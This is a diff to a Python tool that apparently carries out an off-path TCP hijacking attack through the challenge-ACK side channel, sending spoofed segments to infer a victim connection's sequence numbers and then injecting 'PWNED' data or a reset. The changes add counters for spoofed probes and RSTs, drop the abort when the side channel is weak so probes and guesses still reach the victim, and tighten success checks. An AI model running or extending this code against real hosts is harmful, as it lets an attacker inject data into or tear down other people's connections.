@@ -149,6 +149,8 @@ class Attacker:
         self.rx.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, 16 << 20)
         self.own = None
         self.snd_nxt = None
+        self.own_rsts = 0  # RSTs sent on the own connection, in all
+        self.probes = 0  # spoofed segments sent for victims, in all
 
     # --- the attacker's own, legitimate connection ---------------------------
 
@@ -244,6 +246,8 @@ class Attacker:
             pass
         rst = self.flow.frame(self.snd_nxt + 1, 0, RST)  # in the window, not RCV.NXT
         self.send(probes + [rst] * OWN_RSTS, start)
+        self.own_rsts += OWN_RSTS
+        self.probes += len(probes)
         sent = time.time()
         end = math.floor(start) + COLLECT_END
         n, last = 0, 0.0
@@ -276,6 +280,7 @@ def sidechannel(at, a):
         u = at.measure([])
         s = at.measure(spoofed)
         emit(event="round", round=r, unspoofed=u, spoofed=s, spoof=a.spoof)
+    emit(event="end", own_rsts=at.own_rsts, probes=at.probes)
 
 
 class Inconsistent(Exception):
@@ -308,8 +313,9 @@ def attempt(at, tgt, deadline):
     at.sync()
     baseline = at.measure([])
     emit(event="calibrated", target=tgt.name, challenge_acks=baseline)
-    if baseline < 2:
-        raise Inconsistent(f"own connection got {baseline} challenge ACKs for {OWN_RSTS} RSTs: no oracle")
+    # With a small count (a per-connection limit) the oracle says little,
+    # but the attacker goes on anyway: every step still sends its probes
+    # (and its guesses) to the victim, only the checks of step 4 need room.
     probe = lambda seq, ack: tgt.flow.frame(seq, ack, ACK)  # noqa: E731
 
     # 1. The grid.
@@ -356,14 +362,16 @@ def attempt(at, tgt, deadline):
     L = (rcv_nxt - HALF) % MOD
     if tgt.action == "inject":
         at.send([tgt.flow.data(rcv_nxt, ack, b"PWNED")], time.time())
+        at.probes += 1
         emit(event="injected", target=tgt.name, seq=rcv_nxt, ack=ack)
         m = oracle([probe(L + 2, a_hit)] * 100 + [probe(L + 5, a_hit)] * 200)
-        ok = 150 <= m < 250  # L moved by 5: only the second probe still hits
+        ok = baseline >= 300 and 150 <= m < 250  # L moved by 5: only the second probe still hits
     else:
         at.send([tgt.flow.frame(rcv_nxt, 0, RST)], time.time())
+        at.probes += 1
         emit(event="reset_sent", target=tgt.name, seq=rcv_nxt)
         m = oracle([probe(s_hit, a_hit)] * 100)
-        ok = m < 50  # no challenge ACKs: the connection is gone
+        ok = baseline >= 300 and m < 50  # no challenge ACKs: the connection is gone
     emit(event="verified" if ok else "not_verified", target=tgt.name, action=tgt.action, count=m)
     return ok
 
@@ -387,7 +395,7 @@ def attack(at, a):
         except TimeoutError:
             break
         targets.append(targets.pop(0))
-    emit(event="end", attempts=attempts, succeeded=done)
+    emit(event="end", attempts=attempts, succeeded=done, own_rsts=at.own_rsts, probes=at.probes)
 
 
 def main():
